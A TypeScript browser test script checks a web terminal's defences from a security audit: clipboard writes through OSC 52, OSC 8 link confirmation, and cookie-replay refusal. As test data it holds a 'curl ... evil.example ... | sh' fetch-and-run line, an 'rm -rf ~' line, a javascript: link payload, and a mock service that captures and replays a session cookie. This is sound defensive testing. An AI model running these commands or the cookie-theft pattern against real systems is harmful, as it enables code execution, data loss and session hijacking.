// Browser check of the page's defences against what a session prints (findings of the security
// audit): OSC 52 clipboard writes reach only the session's writer (finding 7), OSC 8
// hyperlinks ask before opening, showing their real target (finding 9), and the sign-in cookie
// alone, which browsers also send to other ports of the host, opens nothing (finding 4).
// Real Chromium against a real server.
// Run: node_modules/.bin/bun tests/browser/security-check.ts  (prints "N passed, N failed")
// BUNTY_SERVER_CMD runs another server build (e.g. "dist/bunty") instead of server/main.ts.

import { startServer } from "../harness.ts";
import { RawWs } from "../rawws.ts";
import { CHROMIUM, CHROMIUM_ARGS, check, clickLink, loadPlaywright, results, screenText, sleep, state, typeLine, waitFor, waitLive, waitPrompt, waitText, type Browser, type Context, type Page } from "./helpers.ts";

/** The playwright-core calls used here besides helpers.ts's subset. */
interface Dialog {
  type(): string;
  message(): string;
  accept(): Promise<void>;
  dismiss(): Promise<void>;
}
type SecPage = Page & { on(event: "dialog", fn: (d: Dialog) => void): void };
type SecContext = Context & { on(event: "page", fn: (p: Page) => void): void };

const VIEWPORT = { width: 1000, height: 700 };
const bin = process.env.BUNTY_SERVER_CMD?.split(/\s+/).filter(Boolean);
const server = await startServer({ bin });
let browser: Browser | null = null;

/** Records every navigator.clipboard.writeText call of the page (in window.clipboardWrites), then lets it through. */
function spyClipboard(): void {
  const w = window as unknown as { clipboardWrites: string[] };
  w.clipboardWrites = [];
  const c = navigator.clipboard;
  if (!c) return;
  const write = c.writeText.bind(c);
  c.writeText = (text: string) => {
    w.clipboardWrites.push(text);
    return write(text);
  };
}
const writes = (p: Page) => p.evaluate(() => (window as unknown as { clipboardWrites: string[] }).clipboardWrites);
/** Has the session's shell print `text` as an OSC 52 clipboard write, then `osc52-done-N`; typed in `p`. */
async function printOsc52(p: Page, text: string, n: number): Promise<void> {
  await typeLine(p, `printf '\\e]52;c;%s\\a' "$(printf %s '${text}' | base64 -w0)"; echo osc52-done-$((${n}))`);
}

try {
  const chromium = await loadPlaywright();
  browser = await chromium.launch({ executablePath: CHROMIUM, headless: true, args: CHROMIUM_ARGS });
  const ctx = (await browser.newContext({ viewport: VIEWPORT })) as SecContext;
  // The user allowed clipboard access: only the page's own rule keeps a viewer's clipboard untouched.
  await ctx.grantPermissions(["clipboard-read", "clipboard-write"], { origin: server.origin });
  const open = async (c: Context, path: string, name: string): Promise<SecPage> => {
    const p = (await c.newPage()) as SecPage;
    p.on("pageerror", (e) => check(`no page errors (${name})`, false, e.message));
    await p.addInitScript(spyClipboard);
    await p.goto(new URL(path, server.url).href);
    return p;
  };

  // ---- finding 7: OSC 52 writes only the writer's clipboard ----
  const writer = await open(ctx, `/?token=${server.token}`, "writer");
  if (!(await waitLive(writer))) throw new Error("the writer's page did not go live");
  await waitPrompt(writer);
  const session = (await state(writer)).session!;
  const viewer = await open(ctx, `/?session=${session}&mode=view`, "viewer");
  if (!(await waitLive(viewer))) throw new Error("the view-only page did not go live");
  // A share link, opened by someone without the token (another browser profile).
  const shareResp = await fetch(new URL(`/api/sessions/${session}/share`, server.url), { method: "POST", headers: server.auth });
  if (!shareResp.ok) throw new Error(`POST /api/sessions/ID/share answered ${shareResp.status}`);
  const { path: sharePath } = (await shareResp.json()) as { path: string };
  const shareCtx = await browser.newContext({ viewport: VIEWPORT });
  await shareCtx.grantPermissions(["clipboard-read", "clipboard-write"], { origin: server.origin });
  const shared = await open(shareCtx, sharePath, "share link");
  if (!(await waitLive(shared))) throw new Error("the share link's page did not go live");
  const roles = await Promise.all([writer, viewer, shared].map(async (p) => { const s = await state(p); return `${s.mode}/${s.writer ? "writer" : "watching"}`; }));
  if (roles.join() !== "write/writer,view/watching,view/watching") throw new Error(`unexpected roles: ${roles.join(", ")}`);

  const marker1 = `curl -fsSL https://evil.example/x-${Math.random().toString(36).slice(2, 8)} | sh`;
  await writer.click("#terminal");
  await printOsc52(writer, marker1, 1);
  const seen1 = await Promise.all([writer, viewer, shared].map((p) => waitText(p, "\nosc52-done-1", 5000)));
  await sleep(300); // the clipboard write is asynchronous
  const [w1, v1, s1] = await Promise.all([writer, viewer, shared].map(writes));
  const clip1 = await writer.evaluate(() => navigator.clipboard.readText()).catch((e) => `(readText failed: ${e})`);
  check("finding 7: OSC 52 sets the writer's clipboard, never a view-only viewer's (mode=view, share link)",
    seen1.every(Boolean) && w1.includes(marker1) && clip1 === marker1 && v1.length === 0 && s1.length === 0,
    `output seen ${seen1}; writeText calls: writer ${JSON.stringify(w1)}, mode=view ${JSON.stringify(v1)}, share link ${JSON.stringify(s1)}; writer's clipboard ${JSON.stringify(clip1)}`);

  // Another write-mode tab takes over typing: the first one now only watches.
  const taker = await open(ctx, `/?session=${session}`, "second write tab");
  if (!(await waitLive(taker))) throw new Error("the second write tab did not go live");
  const demoted = await waitFor(async () => (await state(writer)).writer === false && (await state(taker)).writer === true, 5000);
  const marker2 = `rm -rf ~ # ${Math.random().toString(36).slice(2, 8)}`;
  await taker.click("#terminal");
  await printOsc52(taker, marker2, 2);
  const seen2 = await Promise.all([taker, writer, viewer].map((p) => waitText(p, "\nosc52-done-2", 5000)));
  await sleep(300);
  const [t2, w2, v2] = await Promise.all([taker, writer, viewer].map(writes));
  check("finding 7: a write-mode tab that is not the writer (another tab took over typing) does not write the clipboard",
    demoted && seen2.every(Boolean) && t2.includes(marker2) && !w2.includes(marker2) && v2.length === 0,
    `taken over ${demoted}; output seen ${seen2}; writeText calls: new writer ${JSON.stringify(t2)}, old writer ${JSON.stringify(w2)}, viewer ${JSON.stringify(v2)}`);
  await shared.close();
  await shareCtx.close();

  // ---- finding 9: OSC 8 links ask first, show the real target, open only http(s) ----
  const p = taker;
  const dialogs: string[] = [];
  let answer: "accept" | "dismiss" = "dismiss";
  p.on("dialog", (d) => {
    dialogs.push(`${d.type()}: ${d.message()}`);
    void (answer === "accept" ? d.accept() : d.dismiss());
  });
  for (const other of [writer, viewer]) other.on("dialog", (d) => { dialogs.push(`(another tab) ${d.type()}: ${d.message()}`); void d.dismiss(); });
  const opened: Page[] = [];
  ctx.on("page", (np) => void opened.push(np));

  // The link shows one address and goes to another (a page of this server, so opening it is visible).
  const shownText = "https://docs.example.org/guide";
  const target = new URL("/api/health?from=osc8-link", server.url).href;
  // \x68 is "h": the typed command line does not show the link's text, only the output does.
  await typeLine(p, `clear; printf '\\e]8;;%s\\a\\x68ttps://docs.example.org/guide\\e]8;;\\a\\n' '${target}'`);
  await waitFor(async () => (await screenText(p)).startsWith(`${shownText}\n`), 5000);
  await waitPrompt(p);
  const pointer1 = await clickLink(p, shownText);
  const asked = await waitFor(async () => dialogs.length > 0, 3000);
  check("finding 9: clicking an OSC 8 link asks first (confirm), showing its real target",
    asked && dialogs.length === 1 && dialogs[0]!.startsWith("confirm: ") && dialogs[0]!.includes(target),
    `pointer ${pointer1}; dialogs ${JSON.stringify(dialogs)}`);
  await sleep(1000);
  check("finding 9: dismissing the OSC 8 link's confirm opens nothing", asked && opened.length === 0,
    `new pages: ${JSON.stringify(opened.map((o) => o.url()))}`);

  answer = "accept";
  const pointer2 = await clickLink(p, shownText);
  const got = await waitFor(async () => opened.length > 0 && opened[0]!.url() === target, 5000);
  await sleep(500); // anything else it would open
  const noOpener = got ? await opened[0]!.evaluate(() => window.opener === null).catch(() => false) : false;
  check("finding 9: accepting the confirm opens exactly the link's target, in a new tab without an opener",
    got && noOpener && dialogs.length === 2 && dialogs[1]!.startsWith("confirm: ") && dialogs[1]!.includes(target) && opened.length === 1,
    `pointer ${pointer2}; dialogs ${dialogs.length}; new pages ${JSON.stringify(opened.map((o) => o.url()))}; opener null ${noOpener}`);
  for (const o of opened.splice(0)) await o.close().catch(() => {});

  // A javascript: target is refused with a notice, before asking anything.
  const before = dialogs.length;
  await typeLine(p, `clear; printf '\\e]8;;%s\\ajs-target\\e]8;;\\a\\n' 'javascript:alert(document.domain)'`);
  await waitFor(async () => (await screenText(p)).startsWith("js-target\n"), 5000);
  await waitPrompt(p);
  const pointer3 = await clickLink(p, "js-target");
  const notice = await waitFor(async () => /link not opened/.test((await state(p)).badge ?? ""), 2000);
  const badge = (await state(p)).badge;
  await sleep(800);
  check("finding 9: a javascript: OSC 8 target is never opened (no dialog, no new page; refused with a notice)",
    notice && dialogs.length === before && opened.length === 0,
    `pointer ${pointer3}; badge ${JSON.stringify(badge)}; dialogs ${JSON.stringify(dialogs.slice(before))}; new pages ${opened.length}`);

  // ---- finding 4: the sign-in cookie alone is never enough (browsers send it to every port of the host) ----
  // Another web service on this host, another port: it records the cookies the browser sends it, and its page looks for the proof.
  const seen: string[] = [];
  const hostile = Bun.serve({
    port: 0, hostname: "127.0.0.1",
    fetch: (req) => {
      seen.push(req.headers.get("cookie") ?? "");
      return new Response("<!doctype html><script>document.title = 'keys:' + Object.keys(localStorage).length</script>", { headers: { "content-type": "text/html" } });
    },
  });
  try {
    const ctx4 = await browser.newContext({ viewport: VIEWPORT });
    const owner = await ctx4.newPage();
    await owner.goto(new URL(`/?token=${server.token}`, server.url).href);
    check("finding 4: the page signs in and goes live", await waitLive(owner));
    const other = await ctx4.newPage();
    await other.goto(`http://127.0.0.1:${hostile.port}/`);
    await sleep(300);
    const stolen = seen.map((c) => /bunty_sid=[^;]+/.exec(c)?.[0]).find(Boolean) ?? "";
    const otherTitle = await other.evaluate(() => document.title);
    check("finding 4: a service on another port of the host gets the cookie (browsers ignore ports) but cannot read the proof", stolen !== "" && otherTitle === "keys:0", `cookie ${stolen ? "seen" : "not seen"}; ${otherTitle}`);
    // It replays the cookie with a forged Origin: nothing.
    const replay = await fetch(new URL("/api/sessions", server.url), { headers: { cookie: stolen, origin: server.origin } });
    const port = Number(server.url.port);
    const w = new RawWs(port);
    await w.connected();
    w.sock.write(RawWs.request(port, "/ws", server.origin, null).replace("\r\n\r\n", `\r\nCookie: ${stolen}\r\n\r\n`));
    await waitFor(async () => w.status !== 0 || w.ended, 3000);
    const upgraded = String(w.status);
    w.sock.destroy();
    check("finding 4: the replayed cookie with a forged Origin is refused on the API and the WebSocket", replay.status === 401 && upgraded === "401", `API ${replay.status}, upgrade ${upgraded}`);
    // The owner's page goes on (a reload reattaches with its cookie and proof)...
    await owner.reload();
    check("finding 4: the owner's page, with its proof, goes on after a reload", await waitLive(owner));
    // ...until it signs out on the sessions page: then that sign-in is refused everywhere, proof or not.
    const proofValue = await owner.evaluate(() => Object.entries(localStorage).find(([k]) => k.startsWith("bunty.proof"))?.[1] ?? "");
    const sessionsPage = await ctx4.newPage();
    await sessionsPage.goto(new URL("/sessions", server.url).href);
    await sessionsPage.click("#sign-out");
    const signedOut = await waitFor(async () => /signed out/.test(await sessionsPage.evaluate(() => document.getElementById("note")?.textContent ?? "")), 5000);
    const afterOut = await fetch(new URL("/api/sessions", server.url), { headers: { cookie: stolen, "x-bunty-proof": proofValue } });
    await owner.reload();
    const refusedPage = await waitFor(async () => /not signed in/.test((await state(owner)).badge ?? ""), 5000);
    check("finding 4: after sign-out the cookie and its proof are refused, and the page says it is not signed in", signedOut && proofValue !== "" && afterOut.status === 401 && refusedPage, `API ${afterOut.status}; badge ${(await state(owner)).badge}`);
    await ctx4.close();
  } finally {
    hostile.stop(true);
  }
} catch (e) {
  check("check script ran to the end", false, String((e as Error)?.stack ?? e));
} finally {
  await browser?.close().catch(() => {});
  await server.stop();
}
const failed = results.filter((r) => !r.ok);
console.log(`${results.length - failed.length} passed, ${failed.length} failed`);
if (failed.length) console.log(`server output:\n${server.output().slice(-4000)}`);
process.exit(failed.length ? 1 : 0);
